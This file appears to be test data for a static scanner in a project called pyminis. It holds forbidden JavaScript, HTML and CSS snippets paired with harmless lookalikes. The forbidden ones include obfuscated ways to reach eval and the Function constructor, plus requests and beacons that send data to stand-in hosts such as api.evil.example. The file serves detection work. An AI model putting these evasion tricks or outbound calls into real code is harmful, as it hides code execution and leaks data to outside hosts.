"""The scan's corpus: forbidden snippets with the one rule each breaks, and benign lookalikes.

Written for pyminis. Every snippet is parsed as a whole script. The trusted domain of the
corpus policy is https://api.trusted.example.
"""

from __future__ import annotations

TRUSTED = ("https://api.trusted.example",)

# (rule, JavaScript) — the scan must find exactly this rule (one or more times) and no other.
FORBIDDEN_JS: list[tuple[str, str]] = [
    # eval, every form
    ("eval", 'eval("1 + 1");'),
    ("eval", 'window.eval("1");'),
    ("eval", 'globalThis.eval("1");'),
    ("eval", 'self.eval("1");'),
    ("eval", 'top.eval("1");'),
    ("eval", '(0, eval)("1");'),
    ("eval", 'var e = eval; e("1");'),
    ("eval", 'window["ev" + "al"]("1");'),
    ("eval", 'window[`eval`]("1");'),
    ("eval", 'window["\\x65val"]("1");'),
    ("eval", 'window[["ev", "al"].join("")]("1");'),
    ("eval", 'window[String.fromCharCode(101, 118, 97, 108)]("1");'),
    ("eval", 'eval?.("1");'),
    ("eval", 'eval.call(null, "1");'),
    ("eval", 'const g = globalThis; g.eval("1");'),
    ("eval", 'const run = (s) => eval(s);'),
    ("eval", 'const table = {run: eval}; table.run("1");'),
    ("eval", 'function f() { return eval; }'),
    # Python's getattr and subscripts compile to helper calls that read the global by name
    ("eval", '_pm_getattr(window, "eval")("1");'),
    ("eval", 'var f = getattr(window, "ev" + "al"); f("1");'),
    # the Function constructor, every form
    ("function-constructor", 'new Function("return 1");'),
    ("function-constructor", 'Function("return 1")();'),
    ("function-constructor", 'window.Function("return 1")();'),
    ("function-constructor", 'new window.Function("a", "return a");'),
    ("function-constructor", 'globalThis["Func" + "tion"]("return 1")();'),
    ("function-constructor", '(function () {}).constructor("return 1")();'),
    ("function-constructor", '(() => 0).constructor("return 1")();'),
    ("function-constructor", '[].constructor.constructor("return 1")();'),
    ("function-constructor", '"".constructor.constructor("return 1")();'),
    ("function-constructor", 'var F = Function; new F("return 1");'),
    ("function-constructor", 'function f() {} f.constructor("return 1")();'),
    ("function-constructor", 'Object.getPrototypeOf(async function () {}).constructor("x");'),
    ("function-constructor", 'Reflect.construct(Function, ["return 1"]);'),
    ("function-constructor", 'Function.prototype.constructor("return 1");'),
    ("function-constructor", 'var F = Reflect.get(window, "Function"); F("return 1")();'),
    # timers with code in a string
    ("string-timer", 'setTimeout("tick()", 10);'),
    ("string-timer", 'setInterval("tick()", 10);'),
    ("string-timer", 'setTimeout(`tick(${n})`, 10);'),
    ("string-timer", 'setTimeout("tick(" + n + ")", 10);'),
    ("string-timer", 'window.setTimeout("tick()", 10);'),
    ("string-timer", "self.setInterval('tick()', 10);"),
    ("string-timer", 'const code = "tick()"; setTimeout(code, 5);'),
    ("string-timer", 'var t = setTimeout; t("tick()", 1);'),
    ("string-timer", 'setTimeout.call(window, "tick()", 1);'),
    ("string-timer", 'const later = getattr(window, "setTimeout"); later("tick()", 1);'),
    # location of window or document
    ("location", 'location.href = "https://example.com";'),
    ("location", "window.location.reload();"),
    ("location", 'document.location.assign("/");'),
    ("location", "const here = location.search;"),
    ("location", 'location.replace("/a");'),
    ("location", 'globalThis.location = "/b";'),
    ("location", "var l = window.location; l.reload();"),
    ("location", 'window["loca" + "tion"].href;'),
    ("location", "const {hash} = location;"),
    ("location", '_pm_gi(window, "location").href;'),
    # clipboard
    ("clipboard", 'navigator.clipboard.writeText("x");'),
    ("clipboard", "window.navigator.clipboard.readText();"),
    ("clipboard", 'document.execCommand("copy");'),
    ("clipboard", 'document.execCommand("Cut");'),
    ("clipboard", "document.execCommand('paste');"),
    ("clipboard", "new ClipboardItem({});"),
    ("clipboard", 'getattr(navigator, "clipboard").writeText("x");'),
    # vibration (H5)
    ("vibrate", "navigator.vibrate(200);"),
    ("vibrate", "window.navigator.vibrate([100, 50]);"),
    ("vibrate", "const nav = navigator; nav.vibrate(10);"),
    # iframes
    ("iframe", 'document.createElement("iframe");'),
    ("iframe", 'document.createElement("IFRAME");'),
    ("iframe", "el.innerHTML = '<iframe src=\"https://example.com\"></iframe>';"),
    ("iframe", "el.innerHTML = \"<div><iframe src='\" + url + \"'></iframe></div>\";"),
    ("iframe", 'document.write("<iframe></iframe>");'),
    ("iframe", 'el.insertAdjacentHTML("beforeend", "<iframe></iframe>");'),
    ("iframe", 'el.outerHTML = `<iframe src="${u}"></iframe>`;'),
    ("iframe", 'document.body.innerHTML += "<frame>";'),
    # scripts and stylesheets from other origins
    ("foreign-script", 'import("https://cdn.example.com/lib.js");'),
    ("foreign-script",
     'const s = document.createElement("script"); s.src = "https://cdn.example.com/a.js";'),
    ("foreign-script",
     'var s = document.createElement("script"); s.setAttribute("src", "//cdn.example.com/a.js");'),
    ("foreign-script", "document.write('<script src=\"https://cdn.example.com/x.js\"></script>');"),
    ("foreign-script", 'importScripts("https://cdn.example.com/w.js");'),
    ("foreign-stylesheet",
     'const l = document.createElement("link"); l.href = "https://cdn.example.com/a.css";'),
    ("foreign-stylesheet",
     "el.innerHTML = '<link rel=\"stylesheet\" href=\"https://cdn.example.com/a.css\">';"),
    # requests to undeclared domains
    ("untrusted-domain", 'fetch("https://api.evil.example/score");'),
    ("untrusted-domain",
     'const x = new XMLHttpRequest(); x.open("POST", "https://api.evil.example/save");'),
    ("untrusted-domain", 'new WebSocket("wss://live.evil.example/ws");'),
    ("untrusted-domain", 'tt.request({url: "https://api.evil.example/a", method: "GET"});'),
    ("untrusted-domain", 'TTMinis.game.connectSocket({url: "wss://evil.example/s"});'),
    ("untrusted-domain", 'wx.downloadFile({"url": "https://cdn.evil.example/level.bin"});'),
    ("untrusted-domain", 'tt.request(__kwargtrans__({url: "https://api.evil.example/x"}));'),
    ("untrusted-domain", 'fetch("http://api.trusted.example/x");'),  # wrong scheme
    ("untrusted-domain", 'navigator.sendBeacon("https://stats.evil.example", data);'),
    ("untrusted-domain", 'const API = "https://api.evil.example"; fetch(API + "/v1");'),
]

# JavaScript that looks like the forbidden things and is not.
BENIGN_JS: list[str] = [
    "evaluateScore();",
    'const s = "eval(code)";',
    '// eval("x")\nlet a = 1;',
    '/* new Function("x"); setTimeout("x()") */ let b = 2;',
    "const r = /eval\\(/g;",
    "function go(location) { return location.x + 1; }",
    "const {location} = props; location.y;",
    "for (const location of list) location.go();",
    "try { f(); } catch (location) { location.x; }",
    "let location = 1; location += 1;",
    "player.vibrate(10);",
    "const o = {eval: 1, vibrate: 2, location: 3, clipboard: 4};",
    'o.eval("x");',
    "new MyFunction();",
    "class Function2 {} new Function2();",
    "setTimeout(() => tick(), 10);",
    "setTimeout(tick, 10);",
    "setInterval(function () { tick(); }, 16);",
    'fetch("assets/level.json");',
    'fetch("https://api.trusted.example/score");',
    'new WebSocket("wss://api.trusted.example/live");',
    'tt.request({url: "https://api.trusted.example/x"});',
    'document.createElement("canvas");',
    'el.innerHTML = "<b>score</b>";',
    'document.getElementById("__terminal__").innerHTML += text + "<br>";',
    'document.execCommand("bold");',
    'const img = new Image(); img.src = "https://cdn.example.com/a.png";',
    'const s = document.createElement("script"); s.src = "level2.js";',
    'document.createElement("link").href = "https://fonts.googleapis.com/css2?family=Inter";',
    "this.constructor.name;",
    "x.constructor === Object;",
    "const eval2 = 1; evalPoints(eval2);",
    "var text = 'window.location';",
    "const t = `navigator.clipboard`;",
    'import("./level2.js");',
    'file.open("notes.txt");',
    'tt.vibrateShort({type: "light"});',
    "const lang = navigator.language;",
    'window.addEventListener("resize", onResize);',
    "const h = location2.href;",
    'getattr(window, "innerWidth");',
    'getattr(player, "eval");',
    'setattr(state, "location", 3);',
    'const later = getattr(window, "setTimeout"); later(tick, 1);',
]

# Rules that differ by target: (target, rule or None, JavaScript).
BY_TARGET: list[tuple[str, str | None, str]] = [
    ("h5", "vibrate", "navigator.vibrate(30);"),
    ("native", None, "navigator.vibrate(30);"),  # the native runtime allows vibration
    ("native", "dynamic-script", "import(levelName);"),
    ("h5", None, "import(levelName);"),  # a local module chosen at run time
]

# (rule or None, HTML)
HTML_CASES: list[tuple[str | None, str]] = [
    ("foreign-script", '<script src="https://cdn.example.com/x.js"></script>'),
    ("foreign-script", '<script src="//cdn.example.com/x.js"></script>'),
    ("foreign-script", '<link rel="modulepreload" href="https://cdn.example.com/m.js">'),
    ("foreign-stylesheet", '<link rel="stylesheet" href="https://cdn.example.com/a.css">'),
    ("foreign-stylesheet", "<style>\n@import url(https://cdn.example.com/a.css);\n</style>"),
    ("iframe", '<iframe src="page.html"></iframe>'),
    ("iframe", "<IFRAME></IFRAME>"),
    ("eval", '<script>\neval("1");\n</script>'),
    ("location", '<button onclick="location.reload()">again</button>'),
    ("string-timer", '<script type="module">setTimeout("go()", 1)</script>'),
    (None, '<script src="https://connect.tiktok-minis.com/game/sdk.js"></script>'),
    (None, '<script src="https://connect.tiktok-minis.com/drama/sdk.js"></script>'),
    (None, '<script src="game.js"></script><script src="eruda.js"></script>'),
    (None, '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">'),
    (None, '<link rel="stylesheet" href="style.css">'),
    (None, '<link rel="icon" href="https://cdn.example.com/icon.png">'),
    (None, "<p>eval(x), location and an iframe are words here</p>"),
    (None, "<!-- <iframe src=x></iframe> -->"),
    (None, '<script type="text/template"><iframe></iframe></script>'),
    (None, '<img src="https://cdn.example.com/a.png">'),
]

# (rule or None, CSS)
CSS_CASES: list[tuple[str | None, str]] = [
    ("foreign-stylesheet", '@import url("https://cdn.example.com/a.css");'),
    ("foreign-stylesheet", '@import "//cdn.example.com/b.css" screen;'),
    ("foreign-stylesheet", "@media screen { @import url(https://cdn.example.com/y.css); }"),
    ("foreign-stylesheet", '@IMPORT url("https://cdn.example.com/a.css");'),
    (None, '@import url("local.css");'),
    (None, '@import "theme/dark.css";'),
    (None, '@import url("https://fonts.googleapis.com/css2?family=Inter");'),
    (None, "@font-face { font-family: A; src: url(https://cdn.example.com/a.woff2); }"),
    (None, "/* @import url(https://cdn.example.com/x.css); */ body { margin: 0 }"),
    (None, "body { background: url(https://cdn.example.com/bg.png); }"),
    (None, 'a::after { content: "@import url(https://x.example/y.css)"; }'),
]
